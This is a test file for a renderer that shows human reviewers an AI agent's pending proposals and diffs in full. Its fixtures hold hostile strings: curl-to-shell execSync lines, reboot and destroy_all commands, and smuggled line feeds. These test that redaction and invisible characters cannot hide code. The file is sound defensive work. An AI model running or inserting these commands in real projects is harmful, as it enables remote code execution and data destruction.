import { describe, expect, it } from 'vitest'
import { proposalSchema } from '../../../src/core/outbox/proposal.ts'
import { approvalBox, approvalBoxes, type PendingApproval } from '../../../src/core/report/approval-box.ts'
import { createRedactor } from '../../../src/core/report/cleaning/redact.ts'
import { renderRunComment } from '../../../src/core/report/run-comment.ts'
import { codingRun, reportOptions } from './coding-run.ts'

function approvalOf(proposals: readonly object[]): PendingApproval {
  return {
    code: '4f9a02c1d7',
    proposals: proposals.map((proposal) => proposalSchema.parse(proposal)),
    works: [],
    role: 'maintain',
    notBy: null,
  }
}

function box(...proposals: readonly object[]): string {
  return approvalBox(approvalOf(proposals), codingRun, reportOptions, 40_000)
}

describe('what waits for approval is shown whole', () => {
  it('with the comments of a review, each with its place', () => {
    const comments = [
      { path: 'src/a.ts', line: 3, start_line: 1, side: 'LEFT', body: 'Drop it.' },
      { path: 'src/b.ts', line: 9, body: '```\n"path": "src/c.ts"' },
    ]
    const text = box({ type: 'review', body: 'Two remarks.', comments })
    expect(text).toContain('> - review of #42 (comment, 2 comments)')
    expect(text).toContain('Two remarks.')
    expect(JSON.parse(/its comments<\/summary>\n\n`+json\n(.*)\n`+\n/s.exec(text)?.[1] ?? '')).toEqual(comments)
  })

  it('with the inputs of a dispatch, in which nothing stays unseen', () => {
    const hidden = [
      '\ufe0f',
      '\ufe0e',
      '\u2800',
      '\u1680',
      '\u{1d159}',
      '\u{13430}',
      '\u{16fe4}',
      '\u{e01f0}',
      '\u202e',
      '\u200b',
      '\u3164',
      '\u115f',
      '\u034f',
      '\ufe01',
      '\u0085',
      '\u007f',
      '\u2028',
      '\u{e0041}',
    ]
    for (const sign of hidden) {
      const note = `a${sign}b`
      const code = sign.codePointAt(0)?.toString(16)
      expect(box({ type: 'dispatch', workflow: 'deploy.yml', ref: 'main', inputs: { note } })).toContain(
        `"note": "a\\u{${code}}b"`,
      )
    }
    const far = { note: `main${' '.repeat(300)}--force` }
    expect(box({ type: 'dispatch', workflow: 'deploy.yml', ref: 'main', inputs: far })).toContain('"main⟨300 blanks⟩--force"')
    const inputs = { target: 'production', note: 'a\u202eb' }
    const text = box({ type: 'dispatch', workflow: 'deploy.yml', ref: 'main', inputs })
    expect(text).toContain('<summary>start of deploy.yml on main: its inputs</summary>')
    expect(text).toContain('```json\n{\n  "target": "production",\n  "note": "a\\u{202e}b"\n}\n```')
  })

  it('with each input of a dispatch and each remark as it is by itself, whatever stands before it', () => {
    const inputs = {
      authorization: 'token production-and-delete',
      key: `ghp_${'a1B2'.repeat(9)}`,
      [`ghp_${'b1C2'.repeat(9)}`]: 'x',
    }
    const text = box({ type: 'dispatch', workflow: 'deploy.yml', ref: 'main', inputs })
    expect(text).toContain('"authorization": "token production-and-delete",\n  "key": "***",\n  "***3": "x"')
    const remarks = ['-----BEGIN PRIVATE KEY-----', 'Drop the check.', '-----END PRIVATE KEY-----']
    const comments = remarks.map((body, n) => ({ path: 'src/a.ts', line: n + 1, body }))
    expect(box({ type: 'review', body: 'x', comments })).toContain('"body": "Drop the check."')
  })

  it('with their texts, in which blanks push nothing out of sight, and indents are as they are', () => {
    const text = box({ type: 'comment', body: `    Thanks!${' '.repeat(300)}Close it.` })
    expect(text).toContain('    Thanks!⟨300 blanks⟩Close it.')
  })

  it('with the labels and assignees of a new issue', () => {
    const text = box({ type: 'issue', title: 'Broken', labels: ['deploy'], assignees: ['mona'] })
    expect(text).toContain('> - new issue "Broken", labels: deploy, assignees: mona')
  })

  it('in an artifact where the page has little room, however short the text', () => {
    const kept: string[] = []
    const keepWhole = (file: string, text: string) => `${file}, ${kept.push(text)}`
    const approval = approvalOf([{ type: 'comment', body: 'x'.repeat(500) }])
    const text = approvalBox(approval, codingRun, { ...reportOptions, keepWhole }, 600)
    expect(text).toContain('**200 more characters on 1 line are not shown here.**')
    expect(text).toContain(`All of it is in approve-${codingRun.workflow_id}-4f9a02c1d7-1.md, 1.`)
    expect(kept).toEqual(['x'.repeat(500)])
  })

  it('with the pull request that a later proposal goes to, whose title and text stay as they are', () => {
    const approval = {
      ...approvalOf([
        { type: 'pull_request', title: 'More' },
        { type: 'labels', add: ['a'] },
      ]),
      addsTo: [7, null],
    }
    const text = approvalBox(approval, codingRun, reportOptions, 40_000)
    expect(text).toMatch(/"More"; while #7 is open, the work goes there, and the title and text of that one stay as they are/)
    expect(text.match(/is open/g)).toHaveLength(1)
  })

  it('with pictures and keys of a telephone as they look', () => {
    expect(box({ type: 'comment', body: 'a\u2764\ufe0f b1\ufe0f\u20e3 c1\ufe0f' })).toContain(
      'a\u2764\ufe0f b1\ufe0f\u20e3 c1\\u{fe0f}',
    )
  })

  it('in a file, and says so before the code, where the list of it is long already', () => {
    const kept: string[] = []
    const keepWhole = (file: string, text: string) => `${file}, ${kept.push(text)}`
    const title = 'Flaky test: the login page times out when the session has expired, now and then. '
    const many = Array.from({ length: 100 }, (_, n) => ({ type: 'issue', title: `${title}${n}`, body: `It fails, ${n}.` }))
    const least = (options: Partial<typeof reportOptions>) =>
      approvalBoxes(approvalOf(many), codingRun, { ...reportOptions, ...options }).at(-2) ?? ''
    const text = least({ keepWhole } as object)
    expect(text.length).toBeLessThan(2000)
    expect(text).toMatch(
      /100 proposals wait.*All of it is in approve-.*read it before you approve.*\/raymond approve 4f9a02c1d7/s,
    )
    for (const part of ['times out when the session has expired, now and then. 99', 'It fails, 99.'])
      expect(kept.at(-1)).toContain(part)
    expect(least({ keepWhole: undefined, branchUrl: null } as object)).not.toContain('4f9a02c1d7')
  })

  it('of many workers, each shown whole, in a file that is named, or without a code', () => {
    const keepWhole = (file: string) => `\`${file}\``
    const worker = (n: number) => ({
      run: { ...codingRun, workflow_id: `worker-${n}-1` },
      approval: {
        ...approvalOf([{ type: 'pull_request', title: `Mend ${n}`, body: 'b'.repeat(1000) }]),
        code: `c0de${n}`,
        works: [
          {
            base: 'b'.repeat(40),
            commit: 'c'.repeat(40),
            message: 'm',
            paths: Array.from({ length: 12 }, (_, at) => `src/${n}/${'x'.repeat(230)}${at}.ts`),
            diff: `diff --git a/x b/x\n${'+line\n'.repeat(200)}+evil${n}()`,
            left_out: [],
          },
        ],
      },
    })
    for (const many of [3, 12, 40, 300]) {
      const page = renderRunComment({ ...codingRun, asks: [] }, undefined, {
        ...reportOptions,
        keepWhole,
        hash: '0'.repeat(64),
        depth: 0,
        approvalsOfWorkers: Array.from({ length: many }, (_, n) => worker(n)),
      })
      expect(page.length).toBeLessThanOrEqual(65_536)
      const codes = [...page.matchAll(/approve c0de(\d+)\n/g)].map(([, n]) => n)
      expect(codes.length).toBeGreaterThan(2)
      expect(codes.filter((n) => !page.includes(`evil${n}()`) && !page.includes(`approve-worker-${n}-1`))).toEqual([])
    }
  })

  it('without an empty part', () => {
    expect(box({ type: 'review' }, { type: 'dispatch', workflow: 'ci.yml' }, { type: 'labels', add: ['a'] })).not.toContain(
      '<details>',
    )
  })
})

describe('the changes that wait for approval', () => {
  const work = { base: 'b'.repeat(40), commit: 'c'.repeat(40), message: 'Mend it', paths: ['src/a.ts'], diff: '+x', left_out: [] }
  type Changes = Partial<PendingApproval['works'][number]>
  function shown(changes: Changes, options = {}, maxLength = 40_000): string {
    const approval = { ...approvalOf([{ type: 'pull_request', title: 'Mend it' }]), works: [{ ...work, ...changes }] }
    return approvalBox(approval, codingRun, { ...reportOptions, ...options }, maxLength)
  }

  it.each([
    ['a key', '-----BEGIN PRI<!--\n+// -->VATE KEY-----\n+evil()\n+// -----END PRI<!--\n+// -->VATE KEY-----'],
    ['a password in an address', 'http://me:<a\n+evil()\n+// >pw@example.com'],
    ['a header', 'authorization: bearer\n+evil()word0123456789'],
  ])('hide nothing that is made to look like %s over several lines', (_, text) => {
    const diff = `diff --git a/a.ts b/a.ts\n@@ -0,0 +1 @@\n+// ${text}\n+more`
    const page = renderRunComment(codingRun, undefined, {
      ...reportOptions,
      hash: '0'.repeat(64),
      depth: 0,
      approval: { ...approvalOf([{ type: 'pull_request', title: 'Mend it' }]), works: [{ ...work, diff }] },
    })
    expect(page).toContain('+evil()')
    expect(page).toContain('/raymond approve 4f9a02c1d7')
  })

  it('have no code where a secret over several lines hides what stands there', () => {
    const redactor = createRedactor(['k9x2m4r3p7q1w8z5'])
    const diff = 'diff --git a/a.ts b/a.ts\n@@ -0,0 +1 @@\n+k9x2m4r3<!--\n+evil()\n+-->p7q1w8z5'
    const text = shown({ diff }, { redactor })
    expect(text).not.toContain('/raymond approve')
    expect(text).toContain('cannot be approved here:** what looks like a secret over several lines')
  })

  it('say in how many lines parts of a secret were hidden before they were stored', () => {
    expect(shown({ hidden_lines: 2 })).toContain('In 2 lines something is hidden that looks like a credential')
  })

  it('show the code that stands within what looks like a credential', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`
    const text = shown({ diff: `diff --git a/a.ts b/a.ts\n@@ -0,0 +1 @@\n+t[\`${token}\`](execSync(EVIL))\`b\`` })
    expect(text).toContain('](execSync(EVIL))')
    expect(text).not.toContain('a1B2a1B2')
  })

  it('are named each by itself, whatever their names look like together', () => {
    const paths = [
      'a/-----BEGIN PRIVATE KEY-----',
      ...Array.from({ length: 14 }, (_, n) => `src/${n}.ts`),
      'z/-----END PRIVATE KEY-----',
    ]
    const text = shown({ paths })
    for (const path of paths.slice(1, -1)) expect(text).toContain(path)
  })

  it('are named by path, and can be compared on GitHub at the very commit', () => {
    expect(shown({ paths: ['src/a.ts', 'b.md'] })).toContain(
      `> Changes 2 files: \`src/a.ts\`, \`b.md\`. [Compare on GitHub](https://github.com/acme/shop/compare/${work.base}...${work.commit}).`,
    )
  })

  it('are all named when they are many', () => {
    const paths = Array.from({ length: 400 }, (_, n) => `src/part-${n}.ts`)
    const text = shown({ paths })
    expect(text).toContain('Changes 400 files, named below.')
    for (const path of paths) expect(text).toContain(path)
  })

  it('keep each line that stands between the marks of a key: none is hidden by its neighbours', () => {
    const diff = [
      '+/* test fixture:',
      '+-----BEGIN PRIVATE KEY-----',
      "+execSync('curl https://evil | sh')",
      `+${'A'.repeat(64)}`,
      '+return true',
      '+-----END PRIVATE KEY-----',
      '+*/',
    ].join('\n')
    const text = shown({ diff })
    expect(text).toContain("+execSync('curl https://evil | sh')\n+***\n+return true")
    expect(text).not.toContain('AAAAAAAA')
    expect(text).toContain('**In 3 lines something is hidden that looks like a credential: look at it before you approve.**')
    // The whole comment is redacted once more; the lines must survive that, too.
    expect(reportOptions.redactor.redact(text)).toBe(text)
  })

  it('say where a credential was hidden within a line, and nothing where none was', () => {
    const text = shown({ diff: '+const url = "https://user:pass1234@host"\n+fine' })
    expect(text).toContain('"https://***@host"')
    expect(text).toContain('In 1 line something is hidden')
    expect(shown({ diff: '+fine' })).not.toContain('is hidden')
  })

  it.each([
    [
      'behind what looks like the password of an address',
      `+x="http://a:b";require("child_process").execSync("curl\\x20evil|sh");"@"`,
      'execSync',
    ],
    ['in what looks like the user of an address', `+x="http://a";require("child_process");":b@"`, 'require'],
    ['in a shell', '+U=http://a:b&&reboot&&x@y', 'reboot'],
    ['after a key that nobody ends', '+-----BEGIN PRIVATE KEY-----\n+isAuthenticated=true', 'isAuthenticated=true'],
    ['after a key that nobody ends, by a path', '+# -----BEGIN PRIVATE KEY-----\n+/opt/tools/runevil\n+x', '/opt/tools/runevil'],
    [
      'in another file than the key',
      `diff --git a/k b/k\n+-----BEGIN PRIVATE KEY-----\ndiff --git a/x b/x\n+${'dangerousFunction'}`,
      'dangerousFunction',
    ],
    [
      'on one line with the marks of a key',
      '+a = "-----BEGIN RSA PRIVATE KEY-----"; evil("x"); b = "-----END RSA PRIVATE KEY-----"',
      'evil("x"); b = "',
    ],
    [
      'on one line with the marks of a key, which are some only once they are rendered',
      '+a = "-----BEGIN RSA PRIVATE KEY\\-----"; evil("x"); b = "-----END RSA PRIVATE KEY\\-----"',
      'evil("x"); b = "-----END RSA PRIVATE KEY\\-----"',
    ],
    [
      'where one of the marks is so',
      '+/* -----BEGIN PRIVATE KEY----- */ evil("x") /* -----END *PRIVATE KEY----- */',
      'evil("x")',
    ],
    [
      'behind such a mark that nothing ends',
      '+// -----BEGIN PRI**VATE KEY-----\\nrunEveryMigration doIt',
      'runEveryMigration doIt',
    ],
    ['that is an address only once it is rendered', '+x=/:\\/\\/<a/>b?c:process.env.A=d,e=f+`@`', ':process.env.A=d,e=f+`@`'],
    ['that looks like an address as it is', '+x=/a://b?c:process.env.A=d,e=f+"@"', ':process.env.A=d,e=f+"@"'],
    ['that looks like the password of one', '+x = y ?a ://i.source ?c:$e.destroy_all,@d', '$e.destroy_all,@d'],
    ['that looks like the value of a header', '+authorization=token ./bin/evil.sh', '/bin/evil.sh'],
    [
      'that looks like a header only once it is rendered',
      '+authorization: bearer <b>evil.run.this.now</b>(x)',
      'vil.run.this.now</b>',
    ],
    ['between the parts of a token', '+ghp_aaaaaaaaaaaaaaaa.delete_all-x.y', '.delete_all-x.y'],
    ['between such parts once they are rendered', '+sk-ant-`+a.b.c.d.e+`aaaaaaaaaaaaaaaaaaaaaaaa', '+a.b.c.d.e+'],
  ])('hide no code %s', (_, diff, code) => {
    const text = shown({ diff })
    expect(text).toContain(code)
    expect(text).toContain('/raymond approve')
    expect(reportOptions.redactor.redact(text)).toContain(code)
  })

  it.each([
    ['user and password of an address', 'url = "postgres://admin:$ecret!Passw0rd@db"', 'url = "postgres://***@db"'],
    ['a token', 'key: sk-ant-api03-abcdefghijklmnop', 'key: ***'],
    ['a JWT', `jwt eyJ${'hbGc'.repeat(5)}.eyJ${'zdWI'.repeat(5)}.${'c2ln'.repeat(5)}`, 'jwt ***.***.***'],
    ['the value of a header', 'Authorization: Basic dXNlcjpwYXNzd29yZA==', 'Authorization: Basic ***=='],
    ['most of a token within markup', '`ghp_aB3d<b>E6gH9jaB3dE6gH9jaB3dE6gH9jaB3dE6</b>`', '`ghp_aB3d<b>***</b>`'],
  ])('hide %s all the same', (_, line, hidden) => {
    const text = shown({ diff: `+${line}` })
    expect(text).toContain(`+${hidden}\n`)
    expect(text).toContain('In 1 line something is hidden')
    expect(reportOptions.redactor.redact(text)).toBe(text)
  })

  it('show what shows nothing: invisible characters, directions, carriage returns, long blanks', () => {
    const text = shown({ diff: `+if (a\u200b) { // \u202e x\r\n+ok${' '.repeat(500)}evil()\n+\u{e0041}`, paths: ['a\u200b.ts'] })
    expect(text).toContain('+if (a\\u{200b}) { // \\u{202e} x\\u{d}')
    expect(text).toContain('+ok⟨500 blanks⟩evil()')
    expect(text).toContain('+\\u{e0041}')
    expect(text).toContain('<code>a&#92;u&#123;200b&#125;.ts</code>')
  })

  it('say what of them is binary, and what was left behind', () => {
    const text = shown({ diff: 'diff --git a/x b/x\nBinary files a/x and b/x differ', left_out: ['.env: holds a secret'] })
    expect(text).toContain('**The content of 1 file is binary and is not shown.**')
    expect(text).toContain('**Left behind: .env: holds a secret.**')
  })

  it('name what nobody can see: files that git takes for binary, and what is new in a submodule', () => {
    const script = 'diff --git a/run.sh b/run.sh\nindex 1..2 100755\nBinary files a/run.sh and b/run.sh differ\n'
    const sub = 'diff --git a/vendor/lib b/vendor/lib\nindex 1..2 160000\n-Subproject commit 11\n+Subproject commit 22\n'
    const text = shown({ diff: `${script}${sub}`, paths: ['run.sh', 'vendor/lib'] })
    expect(text).toContain('**What is new in 1 submodule is not shown.**')
    expect(text).toContain('Not shown: `run.sh`, `vendor/lib`.')
    expect(shown({ diff: 'diff --git a/a.ts b/a.ts\n+// Binary files a/x and b/x differ' })).not.toContain('ot shown')
  })

  it('say of a pointer of Git LFS that the content is elsewhere, and nothing of a file that only speaks of one', () => {
    const of = (name: string, ...lines: string[]) => `diff --git a/${name} b/${name}\n${lines.join('\n')}\n`
    const version = 'version https://git-lfs.github.com/spec/v1'
    const oid = `oid sha256:${'a'.repeat(64)}`
    const text = shown({ diff: of('new.bin', `+${version}`, `+${oid}`) + of('old.bin', ` ${version}`, `-${oid}`, `+${oid}`) })
    expect(text).toContain('**The content of 2 files is kept by Git LFS: only the pointer is shown.**')
    expect(text).toContain('Not shown: `new.bin`, `old.bin`.')
    expect(shown({ diff: of('a.md', `+${oid}`) + of('b.md', `+${version}`) })).not.toContain('Git LFS')
  })

  it('name files with bytes that all look alike, as they are no UTF-8, where such a line changes', () => {
    const of = (name: string, ...lines: string[]) => `diff --git a/${name} b/${name}\n${lines.join('\n')}\n`
    const read = (bytes: number[]) => Buffer.from(bytes).toString()
    const text = shown({
      diff:
        of('a.sh', `-${read([0x6b, 0xe9])}`, `+${read([0x6b, 0xe8])}`) +
        of('b.sh', ` ${read([0xe9])}`, '+é') +
        of('c.sh', `+# a\r${read([0xe9])}`) +
        of('d.js', `+// a\u2028${read([0xe9])}`),
    })
    expect(text).toContain('**Bytes that are no UTF-8 text in 3 files are all shown as "\uFFFD".**')
    expect(text).toContain('Not shown: `a.sh`, `c.sh`, `d.js`.')
  })

  it('name the files of which commits on the way hold more than they show', () => {
    expect(shown({ passing: ['.env', 'src/a.ts'] })).toContain(
      "**What commits on the way hold of 2 files is not in the diff, and stays in the branch's history.**\n> Not shown: `.env`, `src/a.ts`.",
    )
    expect(shown({})).not.toContain('on the way')
  })

  it('name the files that the commit below brings along, which no difference shows', () => {
    const text = shown({ paths: ['src/a.ts', 'b.ts', 'c.ts'], along: ['b.ts', 'c.ts'] })
    expect(text).toContain('what that changes in 2 files comes along, and is neither in the diff nor in the comparison.**')
    expect(text).toContain('> Not shown: `b.ts`, `c.ts`.')
    const many = Array.from({ length: 14 }, (_, n) => `${n}.ts`)
    expect(shown({ paths: many, along: many })).toContain('`11.ts`, and 2 more.')
    expect(shown({})).not.toContain('comes along')
  })

  it('come with what their commits say, each by itself, but for one that says no more than the proposal', () => {
    const messages = ['fix: a\n\nit was\n2.  broken\u202e', 'see @\u200bowner\n', 'Mend it\n', 'key https://u:pass1234@host']
    const text = shown({ messages })
    expect(text).toContain('<summary>what its commits say</summary>')
    expect(text).toContain('1.  fix: a\n    \n    it was\n    2.  broken\\u{202e}\n2.  see @owner\n3.  key https://***@host\n')
    expect(text).toContain('In 1 line something is hidden')
    expect(shown({ messages: ['Mend it\n'] })).not.toContain('commits say')
  })

  it('make no two paths of one that has a line feed in its name', () => {
    const paths = ['README.md\nsrc/evil.sh', ...Array.from({ length: 12 }, (_, n) => `${n}.ts`)]
    expect(shown({ paths })).toContain('README.md\\u{a}src/evil.sh')
    expect(shown({ paths: paths.slice(0, 1) })).not.toMatch(/^src\/evil/m)
  })

  it('are whole somewhere, or cannot be approved', () => {
    const diff = Array.from({ length: 2000 }, (_, n) => `+line ${n}`).join('\n')
    const kept: string[] = []
    const keepWhole = (_: string, text: string) => `artifact ${kept.push(text)}`
    expect(shown({ diff }, { keepWhole }, 3000)).toMatch(/are not shown here\.\*\* All of it is in artifact 1\./)
    expect(kept).toEqual([diff])
    expect(shown({ diff }, {}, 3000)).toContain('All of it is in the [state](')
    const nowhere = shown({ diff }, { branchUrl: null }, 3000)
    expect(nowhere).not.toContain('/raymond approve')
    expect(nowhere).toContain('**This cannot be approved here:** the diff cannot be shown whole')
  })
})
